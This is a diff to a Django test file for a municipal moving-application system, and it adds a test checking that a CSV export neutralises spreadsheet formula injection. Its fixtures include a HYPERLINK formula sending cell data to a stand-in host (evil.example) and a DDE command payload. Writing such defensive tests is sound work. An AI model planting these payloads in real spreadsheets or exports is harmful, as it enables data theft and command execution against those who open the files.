@@ -3,10 +3,13 @@ resident or a member of staff would notice it."""
 
 from __future__ import annotations
 
+import csv
 import datetime
+import io
 from zoneinfo import ZoneInfo
 
 import pytest
+from django.core.management import call_command
 from django.urls import reverse
 from pytest_django.asserts import assertContains
 
@@ -53,14 +56,8 @@ def guest_out(contract, **overrides) -> dict:
 
 def intruder(contract, **overrides) -> dict:
     """Knows the number (printed on every slip) and nothing else."""
-    return guest_out(
-        contract,
-        name="誰か",
-        address="x",
-        phone="0760000000",
-        email="blocker@example.jp",
-        **overrides,
-    )
+    typed = {"name": "誰か", "address": "x", "phone": "0760000000", "email": "blocker@example.jp"}
+    return guest_out(contract, **{**typed, **overrides})
 
 
 # F1 ---------------------------------------------------------------------------------------
@@ -119,3 +116,51 @@ def test_staff_see_the_unmatched_application_flagged(admin_client, kanazawa, con
     assertContains(listing, "一致しない項目があります(要確認)")
     page = admin_client.get(reverse("admin:moving_moveapplication_change", args=[application.pk]))
     assertContains(page, "一致しない項目があります(要確認)")
+
+
+# F2 ---------------------------------------------------------------------------------------
+
+
+def move_in(**overrides) -> dict:
+    data = {
+        "address": "金沢市本町2丁目15-1",
+        "building": "ハイツ見本 203号室",
+        "move_date": "2027-03-05",
+        "name": "山田 次郎",
+        "name_kana": "ヤマダ ジロウ",
+        "phone": "09011112222",
+        "email": "jiro@example.jp",
+        "payment": "slip",
+    }
+    return {**data, **overrides}
+
+
+def exported(tmp_path, *args) -> list[list[str]]:
+    out = tmp_path / "moves.csv"
+    call_command("export_moves", "--encoding", "utf-8", "-o", str(out), *args)
+    return list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"))))
+
+
+def test_formulas_reach_the_cis_file_as_text(client, kanazawa, contract, tmp_path):
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
+    apply(
+        client,
+        kanazawa,
+        "move_in",
+        move_in(address=hyperlink, building="+cmd|' /C calc'!A0", name="@SUM(1+1)"),
+    )
+    apply(
+        client,
+        kanazawa,
+        "move_out",
+        intruder(contract, name='=HYPERLINK("http://evil/","x")', final_bill_address="-2+3"),
+    )
+    header, *lines = exported(tmp_path)
+    moved_in, moved_out = (dict(zip(header, line, strict=True)) for line in lines)
+    assert moved_in["address"] == "'" + hyperlink
+    assert moved_in["building"] == "'+cmd|' /C calc'!A0"
+    assert moved_in["name"] == "'@SUM(1+1)"
+    assert moved_out["name"] == '\'=HYPERLINK("http://evil/","x")'
+    assert moved_out["final_bill_address"] == "'-2+3"
+    assert moved_out["phone"] == "09012345678"  # digits only: never a formula, kept as is
+    assert moved_out["matched"] == "no"
